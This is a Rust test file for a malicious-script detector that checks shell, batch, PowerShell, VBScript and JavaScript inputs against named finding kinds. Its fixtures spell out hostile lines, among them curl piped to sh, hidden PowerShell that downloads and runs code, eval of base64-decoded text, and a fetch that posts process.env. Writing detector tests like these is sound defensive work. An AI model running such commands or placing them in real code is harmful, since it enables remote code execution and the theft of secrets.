//! What scripts of other languages do.

use hognose_behaviour::content::{javascript, script};
use hognose_behaviour::{
    Fact,
    FactKind::{self, *},
    Trigger,
};
use proptest::prelude::*;

fn pairs(out: &[Fact]) -> Vec<(FactKind, u32)> {
    out.iter()
        .map(|fact| (fact.kind, fact.place.line))
        .collect()
}

type Seen = (Vec<(FactKind, u32)>, Vec<(u32, String)>);

fn run(path: &str, text: &str) -> Seen {
    let mut out = Vec::new();
    let language = script::Language::of(path, text.as_bytes()).unwrap_or(script::Language::Shell);
    let python = script::facts(path, text.as_bytes(), language, Trigger::Call, &mut out);
    (pairs(&out), python)
}

fn js(text: &str) -> Vec<(FactKind, u32)> {
    let mut out = Vec::new();
    javascript::facts("a.js", text.as_bytes(), Trigger::Call, &mut out);
    pairs(&out)
}

#[test]
fn shells() {
    let (facts, python) = run(
        "x",
        "#!/bin/bash\n# curl x | sh\nset -e\ncmake .. && make\npython3 -c 'print(1)'\n",
    );
    assert_eq!(facts, [(ProcessPython, 5)]);
    assert_eq!(python, [(5, "print(1)".to_owned())]);
    let (facts, _) = run(
        "a.sh",
        "make\ncurl -s \\\n  https://example.invalid/x | sh\n",
    );
    assert!(facts.contains(&(DownloadPipeShell, 2)), "{facts:?}");
    assert!(facts.contains(&(ScriptFile, 2)), "{facts:?}");
}

#[test]
fn batch() {
    let (facts, _) = run(
        "a.bat",
        "@echo off\r\nrem curl x\r\n@pow^er^sh^ell -w hidden -c ^\r\n iwr http://example.invalid/a.exe\r\n",
    );
    assert!(facts.contains(&(PowershellHidden, 3)), "{facts:?}");
    assert!(facts.contains(&(EndpointExecutable, 3)), "{facts:?}");
}

#[test]
fn powershell() {
    let (facts, _) = run(
        "a.ps1",
        "# comment\n$u = 'http://example.invalid/a.ps1'\n$t = (New-Object Net.WebClient).DownloadString($u)\nIEX $t\n",
    );
    assert!(facts.contains(&(DownloadCommand, 3)), "{facts:?}");
    assert!(facts.contains(&(DownloadPipeShell, 0)), "{facts:?}");
    let (facts, _) = run("a.ps1", "Write-Host hello\nGet-Date\n");
    assert_eq!(facts, []);
}

#[test]
fn script_host() {
    let (facts, _) = run(
        "a.vbs",
        "' comment\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"cmd /c powershell -w hidden -c x\", 0\n",
    );
    assert!(facts.contains(&(ProcessStart, 2)), "{facts:?}");
    assert!(facts.contains(&(PowershellHidden, 3)), "{facts:?}");
}

#[test]
fn honest_bundles() {
    let bundle = "!function(e){var t=/[\"'`]/g,n=e.exec('x'),r=a/b/c;fetch('https://example.invalid/api');e.process&&process.env.NODE_ENV;\
        eval('1+1');s=\"https://raw.githubusercontent.com/a/b\";atob(t)}(window);// child_process\n/* eval(atob( */";
    assert_eq!(js(bundle), []);
}

#[test]
fn programs_that_act() {
    assert_eq!(
        js(
            "const c = require('child_process');\nc.execSync('curl https://example.invalid/x | sh');\n"
        ),
        [
            (JavascriptActive, 1),
            (DownloadCommand, 2),
            (DownloadPipeShell, 2)
        ]
    );
    assert_eq!(
        js("import { spawn } from 'node:child_process';\n"),
        [(JavascriptActive, 1)]
    );
    assert_eq!(
        js("x;\neval(atob('YQ=='))"),
        [(ExecDecoded, 2), (JavascriptObfuscated, 2)]
    );
    assert_eq!(
        js("eval(Buffer.from(x,'base64')+'')"),
        [(ExecDecoded, 1), (JavascriptObfuscated, 1)]
    );
    assert_eq!(
        js("fetch(u,{body:JSON.stringify(process.env)})"),
        [(EnvAll, 1)]
    );
    assert_eq!(
        js("fetch('https://x.webhook.site/a')"),
        [(EndpointOast, 1), (JavascriptActive, 1)]
    );
    assert_eq!(js("Bun.spawn([])"), [(JavascriptActive, 1)]);
    let numbered: String = (0x1000..0x1020)
        .map(|n| format!("var _0x{n:x}=1;"))
        .collect::<Vec<_>>()
        .concat();
    assert_eq!(js(&numbered), [(JavascriptObfuscated, 1)]);
}

#[test]
fn megabytes_are_quick_to_read() {
    for unit in [
        "'",
        "`",
        "/",
        "/*",
        "\\",
        "a(",
        "[",
        "\n",
        "_0x1234 ",
        "'powershell -c x' ",
    ] {
        let text = unit.repeat(2_000_000 / unit.len());
        let start = std::time::Instant::now();
        js(&text);
        assert!(
            start.elapsed().as_secs() < 300,
            "{unit}: {:?}",
            start.elapsed()
        );
    }
    for unit in ["\\\n", "a\n", "$(", "\"", "\n", "curl x |"] {
        for path in ["a.sh", "a.bat", "a.ps1", "a.vbs"] {
            let text = unit.repeat(30_000 / unit.len());
            let start = std::time::Instant::now();
            run(path, &text);
            assert!(
                start.elapsed().as_secs() < 300,
                "{path} {unit}: {:?}",
                start.elapsed()
            );
        }
    }
}

proptest! {
    #[test]
    fn any_bytes_are_survived(bytes in any::<Vec<u8>>()) {
        let mut out = Vec::new();
        javascript::facts("a.js", &bytes, Trigger::Call, &mut out);
        for path in ["a.sh", "a.bat", "a.ps1", "a.vbs"] {
            let language = script::Language::of(path, &bytes).unwrap();
            script::facts(path, &bytes, language, Trigger::Call, &mut out);
        }
        script::Language::of("x", &bytes);
    }

    #[test]
    fn any_mix_of_parts_is_survived(parts in prop::collection::vec(prop::sample::select(vec![
        "'", "\"", "`", "/", "*", "\\", "\n", "é", "require(", "child_process", "eval(atob(", "process.env", "_0xabcd", "[", "]",
    ]), 0..40)) {
        js(&parts.concat());
    }
}
